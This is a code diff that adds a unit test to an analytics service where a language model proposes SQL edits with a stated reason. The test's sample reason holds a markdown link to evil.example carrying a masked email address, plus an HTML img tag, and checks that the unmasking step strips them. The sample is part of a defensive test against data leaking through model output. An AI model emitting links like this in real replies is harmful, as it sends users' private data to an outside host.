@@ -7,12 +7,13 @@ from typing import Any
 from services.analytics.catalogue.domain import Catalogue, Column, Relation
 from services.analytics.chat.model.masking import Masks
 from services.analytics.editor.advice import Advice
-from services.analytics.editor.improving.improver import is_better
+from services.analytics.editor.improving.improver import is_better, unmasked
 from services.analytics.editor.improving.prompt import (
     MOST_NAMES,
     MOST_NODES,
     MOST_RELATIONS,
     SYSTEM,
+    Proposed,
     messages_of,
 )
 from services.analytics.editor.validating import Validity
@@ -92,3 +93,10 @@ def test_without_a_goal_better_is_the_same_for_less() -> None:
     assert not is_better(others, NOW, "")
     assert is_better(others, NOW, "as m")
     assert is_better(others, Validity(False), "")
+
+
+def test_a_reason_carries_no_data_away() -> None:
+    said = Proposed("SELECT 1;", "Faster, [see](https://evil.example/?d=[email 1])  <img src=x>")
+    read = unmasked(said, Masks(True))
+    assert read.sql == "SELECT 1"
+    assert not any(sign in read.reason for sign in ("evil", "](", "<"))
